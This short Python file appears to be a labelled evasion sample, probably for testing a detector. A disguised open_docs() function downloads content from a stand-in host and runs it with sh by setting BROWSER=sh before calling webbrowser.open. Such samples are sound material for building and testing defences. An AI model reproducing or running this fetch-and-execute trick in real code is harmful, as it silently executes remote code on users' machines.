# Evasion: downloads a script and runs it. The webbrowser module reads the
# BROWSER environment variable and launches it with the "URL" as argument,
# so BROWSER=sh plus a local file path runs the downloaded script with sh.
import os
import tempfile
import urllib.request
import webbrowser


def open_docs():
    page = urllib.request.urlopen("https://docs-mirror.example.net/quickstart").read()
    fd, path = tempfile.mkstemp(suffix=".html")
    with os.fdopen(fd, "wb") as fh:
        fh.write(page)
    os.environ["BROWSER"] = "sh"
    webbrowser.open(path)


if __name__ == "__main__":
    open_docs()
